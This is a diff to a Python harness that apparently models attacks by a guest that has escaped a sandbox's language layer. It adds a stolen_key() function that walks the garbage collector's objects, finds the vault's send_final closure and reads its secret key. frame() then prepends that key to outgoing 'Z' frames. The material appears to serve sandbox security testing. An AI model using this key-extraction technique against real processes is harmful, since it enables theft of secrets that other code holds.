@@ -16,7 +16,7 @@ sys.path.insert(0, str(Path(__file__).parent))  # for attempts.py
 
 # Raw system calls and raw frames for a guest that has escaped the language layer.
 PRELUDE = """
-import ctypes, errno, json, os, struct, sys
+import ctypes, errno, gc, json, os, struct, sys
 _libc = ctypes.CDLL(None, use_errno=True)
 _libc.syscall.restype = ctypes.c_long
 
@@ -25,7 +25,15 @@ def call(number, *arguments):
     answer = _libc.syscall(ctypes.c_long(number), *slots)
     return -ctypes.get_errno() if answer == -1 else answer
 
+def stolen_key():
+    # What native control gives: it is in the closure of the vault's own functions.
+    gc.unfreeze()
+    for o in gc.get_objects():
+        if type(o) is type(call) and o.__qualname__ == "install.<locals>.send_final":
+            return dict(zip(o.__code__.co_freevars, o.__closure__))["key"].cell_contents
+
 def frame(kind, payload, length=None):
+    payload = (stolen_key() if kind == b"Z" else b"") + payload
     return struct.pack("<cI", kind, len(payload) if length is None else length) + payload
 
 def final(**changes):
